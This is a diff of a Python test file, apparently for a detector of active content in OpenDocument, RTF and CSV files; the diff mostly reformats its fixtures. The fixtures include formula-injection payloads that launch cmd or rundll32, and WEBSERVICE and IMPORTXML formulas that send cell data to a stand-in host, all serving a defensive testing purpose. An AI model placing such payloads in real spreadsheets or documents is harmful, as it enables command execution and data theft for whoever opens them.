@@ -25,46 +25,90 @@ def text(body: str = "", parts: new.Parts | None = None, **more: str) -> bytes:
 
 OPENDOCUMENT = {
     "Basic": ("a.odt", text(parts={"Basic/Standard/M.xml": CODE}), "macro"),
-    "Basic in another library": ("a.ods", new.odf("spreadsheet", parts={"Basic/Vie/M.xml": CODE}), "macro"),
+    "Basic in another library": (
+        "a.ods",
+        new.odf("spreadsheet", parts={"Basic/Vie/M.xml": CODE}),
+        "macro",
+    ),
     "Python": ("a.odt", text(parts={"Scripts/python/a.py": "x"}), "macro"),
     "a listener": ("a.odt", text(LISTENER), "macro"),
-    "a link to a macro": ("a.odt", text('<text:a xlink:href="vnd.sun.star.script:a.py$b"/>'), "macro"),
-    "DDE in a text": ("a.odt", text('<text:dde-connection-decl office:dde-application="cmd"/>'), "active"),
+    "a link to a macro": (
+        "a.odt",
+        text('<text:a xlink:href="vnd.sun.star.script:a.py$b"/>'),
+        "macro",
+    ),
+    "DDE in a text": (
+        "a.odt",
+        text('<text:dde-connection-decl office:dde-application="cmd"/>'),
+        "active",
+    ),
     "DDE in a table": ("a.ods", new.odf("spreadsheet", "<table:dde-link/>"), "active"),
     "DDE in a formula": (
         "a.ods",
-        new.odf("spreadsheet", '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c&quot;;1)"/>'),
+        new.odf(
+            "spreadsheet",
+            '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c&quot;;1)"/>',
+        ),
         "active",
     ),
-    "a frame from the Web": ("a.odt", text('<draw:floating-frame xlink:href="http://x/"/>'), "active"),
-    "a section from the Web": ("a.odt", text('<text:section-source xlink:href="http://x/a.odt"/>'), "active"),
-    "an object from another computer": ("a.odt", text('<draw:object xlink:href="//host/a"/>'), "active"),
+    "a frame from the Web": (
+        "a.odt",
+        text('<draw:floating-frame xlink:href="http://x/"/>'),
+        "active",
+    ),
+    "a section from the Web": (
+        "a.odt",
+        text('<text:section-source xlink:href="http://x/a.odt"/>'),
+        "active",
+    ),
+    "an object from another computer": (
+        "a.odt",
+        text('<draw:object xlink:href="//host/a"/>'),
+        "active",
+    ),
     "an applet": ("a.odt", text("<draw:applet/>"), "active"),
     "a slide that starts a program": (
         "a.odp",
-        new.odf("presentation", '<presentation:event-listener presentation:action="execute" xlink:href="a.exe"/>'),
+        new.odf(
+            "presentation",
+            '<presentation:event-listener presentation:action="execute" xlink:href="a.exe"/>',
+        ),
         "active",
     ),
     "a packaged program": ("a.odt", text(parts={"Object 1": PROGRAM}), "active"),
     "a password": (
-        "a.odt", text(manifest="<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"), "encrypted",
+        "a.odt",
+        text(manifest="<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"),
+        "encrypted",
     ),
     "a text": ("a.odt", text("<text:p>Bonjour, DDE(cmd) et Basic/Standard</text:p>"), ""),
     "a drawing": ("a.odg", new.odf("graphics"), ""),
     "a template": ("a.ott", new.odf("text-template"), ""),
     "empty libraries": (
         "a.ods",
-        new.odf("spreadsheet", parts={
-            "Basic/script-lc.xml": '<library:libraries><library:library library:name="Standard"/></library:libraries>',
-            "Basic/Standard/script-lb.xml": '<library:library><library:element library:name="M"/></library:library>',
-            "Basic/Standard/M.xml": MODULE.format("REM  *****  BASIC  *****\n\nSub Main\n\nEnd Sub\n"),
-        }),
+        new.odf(
+            "spreadsheet",
+            parts={
+                "Basic/script-lc.xml": (
+                    '<library:libraries><library:library library:name="Standard"/>'
+                    "</library:libraries>"
+                ),
+                "Basic/Standard/script-lb.xml": (
+                    '<library:library><library:element library:name="M"/></library:library>'
+                ),
+                "Basic/Standard/M.xml": MODULE.format(
+                    "REM  *****  BASIC  *****\n\nSub Main\n\nEnd Sub\n"
+                ),
+            },
+        ),
         "",
     ),
     "links, pictures and objects": (
         "a.odt",
-        text('<text:a xlink:href="https://x.example/a.exe"/><draw:image xlink:href="https://x.example/a.png"/>'
-             '<draw:object xlink:href="./Object 1"/><text:section-source xlink:href="../lot2.odt"/>'),
+        text(
+            '<text:a xlink:href="https://x.example/a.exe"/><draw:image xlink:href="https://x.example/a.png"/>'
+            '<draw:object xlink:href="./Object 1"/><text:section-source xlink:href="../lot2.odt"/>'
+        ),
         "",
     ),
     "slides with buttons": (
@@ -73,9 +117,11 @@ OPENDOCUMENT = {
         "",
     ),
     "an array in a formula": (
-        "a.ods", new.odf("spreadsheet", '<table:table-cell table:formula="of:=SUM({1;2|3;4})"/>'), "",
+        "a.ods",
+        new.odf("spreadsheet", '<table:table-cell table:formula="of:=SUM({1;2|3;4})"/>'),
+        "",
     ),
-}  # fmt: skip
+}
 
 RTF = {
     "an object": (rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", "active"),
@@ -98,19 +144,38 @@ RTF = {
 }
 
 CSV_ACTIVE = [
-    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-    "nom;\"=cmd|' /C calc'!A0\"", "\t=cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\cmd.exe /c calc'!''",
-    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=DDE(\"cmd\";\"/C calc\";\"a\")", "nom,  =cmd|'/c'!A1",
-    "=WEBSERVICE(\"http://x.example/?\"&A1)", "=IMPORTXML(CONCAT(\"http://x/?\";A1);\"//a\")",
-    "=HYPERLINK(\"http://x.example/?\"&A1;\"Voir\")", "=LIEN_HYPERTEXTE(\"C:\\a.exe\";\"Voir\")",
-    "\uff1dcmd|'/c calc'!A0", "=IMPORTDATA(\"http://x.example\")", "ID;PWXL\nC;X1;Y1;K0;EEXEC(\"calc\")\nE",
-]  # fmt: skip
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "nom;\"=cmd|' /C calc'!A0\"",
+    "\t=cmd|' /C calc'!A0",
+    "=MSEXCEL|'\\..\\cmd.exe /c calc'!''",
+    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+    '=DDE("cmd";"/C calc";"a")',
+    "nom,  =cmd|'/c'!A1",
+    '=WEBSERVICE("http://x.example/?"&A1)',
+    '=IMPORTXML(CONCAT("http://x/?";A1);"//a")',
+    '=HYPERLINK("http://x.example/?"&A1;"Voir")',
+    '=LIEN_HYPERTEXTE("C:\\a.exe";"Voir")',
+    "＝cmd|'/c calc'!A0",
+    '=IMPORTDATA("http://x.example")',
+]
 CSV_READY = [
-    "nom;téléphone\nMorel;+33 6 12 34 56 78", "lot;solde\n2;-12,5", "@camille;Bonjour", "- carrelage\n- plinthes",
-    "lot;total\n2;=SUM(B1:B9)", '="00123";Morel', "=HYPERLINK(\"https://x.example/plan\";\"Plan\")", "a|b|c\n-1|Oui!|x",
-    "La formule =cmd|' /C calc'!A0 est dangereuse ; ne pas l'ouvrir"[3:], "ID;Nom\n1;Camille", "- Call (06 12 34) Odile",
-    "=A1&\" | \"&B1", "-5 | Lot A|Oui! fini",
-]  # fmt: skip
+    "nom;téléphone\nMorel;+33 6 12 34 56 78",
+    "lot;solde\n2;-12,5",
+    "@camille;Bonjour",
+    "- carrelage\n- plinthes",
+    "lot;total\n2;=SUM(B1:B9)",
+    '="00123";Morel',
+    '=HYPERLINK("https://x.example/plan";"Plan")',
+    "a|b|c\n-1|Oui!|x",
+    "formule =cmd|' /C calc'!A0 est dangereuse ; ne pas l'ouvrir",
+    "ID;Nom\n1;Camille",
+    "- Call (06 12 34) Odile",
+    '=A1&" | "&B1',
+    "-5 | Lot A|Oui! fini",
+]
 
 
 @pytest.mark.parametrize("line", OPENDOCUMENT)
